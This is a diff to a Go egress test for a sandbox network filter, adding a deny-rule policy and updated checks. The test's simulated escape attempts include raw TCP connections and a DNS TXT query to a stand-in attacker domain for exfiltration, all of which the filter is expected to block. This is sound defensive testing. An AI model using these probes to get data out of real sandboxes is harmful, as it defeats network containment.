@@ -109,7 +109,8 @@ func TestEgress(t *testing.T) {
 	e.startDaemon(append(up.daemonArgs("api.example.test", "other.example.test"), "--listen", apiAddr)...)
 	ctx := context.Background()
 
-	sb, err := e.client().Create(ctx, &api.CreateSandboxRequest{Allow: []string{"api.example.test"}})
+	pol := `{"version":1,"rules":[{"name":"no-other","host":"other.example.test","action":"deny"}]}`
+	sb, err := e.client().Create(ctx, &api.CreateSandboxRequest{Policy: json.RawMessage(pol), Allow: []string{"api.example.test"}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -138,7 +139,7 @@ func TestEgress(t *testing.T) {
 	}
 	// Disallowed name: a 403 with a JSON body naming the rule and the host.
 	r = sh("curl -sS -w '\\n%{http_code}' https://other.example.test/x")
-	if !strings.HasSuffix(r.stdout, "\n403") || !strings.Contains(r.stdout, `"rule"`) || !strings.Contains(r.stdout, "other.example.test") {
+	if !strings.HasSuffix(r.stdout, "\n403") || !strings.Contains(r.stdout, `"no-other"`) || !strings.Contains(r.stdout, "other.example.test") {
 		t.Fatalf("disallowed host: %+v", r)
 	}
 
@@ -164,12 +165,12 @@ func TestEgress(t *testing.T) {
 import socket
 s = socket.create_connection(('api.example.test', 2222), timeout=5)
 s.sendall(b'hello\n')
-print(s.recv(100))"`},
+if s.recv(100): print('RAW-DATA')"; exit 0`},
 	}
 	for _, a := range attacks {
 		r := sh(a.script)
-		ok403 := strings.Contains(r.stdout, `"rule"`) || strings.Contains(r.stdout, "403")
-		if r.code == 0 && !ok403 {
+		denied := strings.Contains(r.stdout, "denied by cagebox") || (a.name == "raw tcp other port" && !strings.Contains(r.stdout, "RAW-DATA"))
+		if r.code == 0 && !denied {
 			t.Errorf("%s: got through: %+v", a.name, r)
 		}
 		if strings.Contains(r.stdout, "hello from upstream") || strings.Contains(r.stdout, `"version"`) {
@@ -193,10 +194,13 @@ def q(name, qtype):
     s.sendto(pkt, (ns, 53))
     resp = s.recv(4096)
     return resp[3] & 0x0f, struct.unpack('>H', resp[6:8])[0]
-print(q('api.example.test', 1), q('api.example.test', 16), q('other.example.test', 1), q('exfil.data.attacker.test', 16))
+print(q('api.example.test', 1), q('api.example.test', 16), q('other.example.test', 1), q('unmentioned.example.test', 1), q('exfil.data.attacker.test', 16))
 PY`)
-	if r.stdout != "(0, 1) (5, 0) (3, 0) (5, 0)\n" {
-		t.Errorf("dns answers (rcode, answers) for A allowed, TXT allowed, A other, TXT other: %+v", r)
+	// A allowed: answer; TXT: refused; A of a name only a deny rule names:
+	// answered (so the proxy can say which rule); A of a name no rule
+	// mentions: NXDOMAIN; TXT of anything: refused.
+	if r.stdout != "(0, 1) (5, 0) (0, 1) (3, 0) (5, 0)\n" {
+		t.Errorf("dns answers (rcode, answers): %+v", r)
 	}
 
 	// UDP to anything but DNS goes nowhere: a host listener on the gateway
@@ -224,7 +228,7 @@ for dst in [('%s', %d), ('8.8.8.8', 123), ('10.0.0.1', 9999)]:
 	}
 	e.cli("", "exec", other.ID, "--", "sh", "-c", "cd /tmp && (python3 -m http.server 8080 > /tmp/http.log 2>&1 &) ; sleep 1")
 	r = sh("curl -sS -m 5 http://" + other.Network.Address + ":8080/")
-	if r.code == 0 && !strings.Contains(r.stdout, "403") {
+	if r.code == 0 && !strings.Contains(r.stdout, "denied by cagebox") {
 		t.Errorf("reached another sandbox: %+v", r)
 	}
 	if r := e.cli("", "exec", other.ID, "--", "cat", "/tmp/http.log"); strings.Contains(r.stdout, "GET") {
